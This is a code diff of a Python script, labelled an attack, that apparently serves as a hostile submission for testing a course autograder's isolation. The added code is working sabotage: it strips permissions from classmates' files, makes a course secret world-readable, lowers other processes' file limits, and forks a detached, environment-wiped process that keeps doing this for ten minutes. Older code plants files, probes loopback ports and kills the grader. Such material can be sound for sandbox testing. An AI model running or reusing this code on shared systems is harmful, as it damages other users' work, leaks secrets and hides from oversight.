@@ -1,4 +1,4 @@
-"""Attack: run by an ordinary user's regrade, reads, rewrites and plants that user's files, knocks on loopback, kills the grader."""
+"""Attack: run by an ordinary user's regrade, reads, rewrites, plants and chmods that user's and classmates' files, lowers other workers' limits, knocks on loopback, kills the grader, and stays."""
 
 from __future__ import annotations
 
@@ -316,8 +316,12 @@ def serving_track_profile(profile, variant, hardware, model):
 
 # --- the attack ---------------------------------------------------------------------------
 
+import ctypes  # noqa: E402
+import errno  # noqa: E402
+import resource  # noqa: E402
 import signal  # noqa: E402
 import socket  # noqa: E402
+import time  # noqa: E402
 
 #: Where the test's server listens on the host's loopback.
 KNOCKED_PORTS = range(47820, 47830)
@@ -366,7 +370,89 @@ def attack():
         quietly(write, os.path.join(folder, "planted.pickle"), b"PLANTED")
     for port in KNOCKED_PORTS:
         quietly(knock, port)
+    evidence = reach_classmates()
+    evidence.append(f"stay {persist()}")
+    print("classmates attack: " + "; ".join(evidence))
     kill_same_user()
+
+
+#: The course secret, where the test keeps it (the attacker is taken to know its path).
+COURSE_SECRET = "/tmp/serving-grader-course-secret/course_secret"
+#: Other processes' pids tried, on each side of the worker's own.
+PID_SPAN = 300
+
+
+def outcome(action, *args):
+    """'ok', or the errno's name."""
+    try:
+        action(*args)
+        return "ok"
+    except OSError as error:
+        return errno.errorcode.get(error.errno, str(error.errno))
+
+
+def tally(outcomes):
+    counted = {}
+    for result in outcomes:
+        counted[result] = counted.get(result, 0) + 1
+    return ",".join(f"{name}={count}" for name, count in sorted(counted.items()))
+
+
+def seat_files():
+    """The classmates' serving.py, named by listing the seats' folder (the box's grandparent:
+    its uid is this worker's where the regrade runs without namespaces)."""
+    box = os.getcwd()
+    seats = os.path.dirname(os.path.dirname(box))
+    names = quietly(os.listdir, seats) or []
+    return [os.path.join(seats, name, "box", "serving.py") for name in names
+            if name.startswith("seat-") and os.path.join(seats, name, "box") != box
+            and not name.endswith(".lock")]
+
+
+def reach_classmates():
+    """chmod the classmates' files and the secret, lower other processes' file limits."""
+    files = seat_files()
+    evidence = [f"listed {len(files)} seats",
+                "chmod seats " + tally(outcome(os.chmod, path, 0) for path in files),
+                "chmod secret " + outcome(os.chmod, COURSE_SECRET, 0o644)]
+    own = os.getpid()
+    tried = [outcome(resource.prlimit, pid, resource.RLIMIT_NOFILE, (3, 3))
+             for pid in range(max(2, own - PID_SPAN), own + PID_SPAN) if pid != own]
+    evidence.append("prlimit others " + tally(tried))
+    evidence.append("renice user " + outcome(os.setpriority, os.PRIO_USER, 0, 19))
+    return evidence
+
+
+def blank_environment():
+    """Zero the environment's bytes where /proc/self/environ reads them."""
+    libc = ctypes.CDLL(None)
+    environ = ctypes.POINTER(ctypes.c_char_p).in_dll(libc, "environ")
+    index = 0
+    while environ[index] is not None:
+        entry = environ[index]
+        ctypes.memset(entry, 0, len(entry))
+        index += 1
+
+
+def persist():
+    """Fork a process that leaves the worker's session, folder and environment, and goes on
+    reaching the classmates for ten minutes; what the fork returned."""
+    try:
+        pid = os.fork()
+    except OSError as error:
+        return errno.errorcode.get(error.errno, str(error.errno))
+    if pid:
+        return "ok"
+    try:
+        quietly(os.setsid)
+        quietly(os.chdir, "/")
+        blank_environment()
+        deadline = time.monotonic() + 600
+        while time.monotonic() < deadline:
+            quietly(reach_classmates)
+            time.sleep(0.2)
+    finally:
+        os._exit(0)
 
 
 attack()
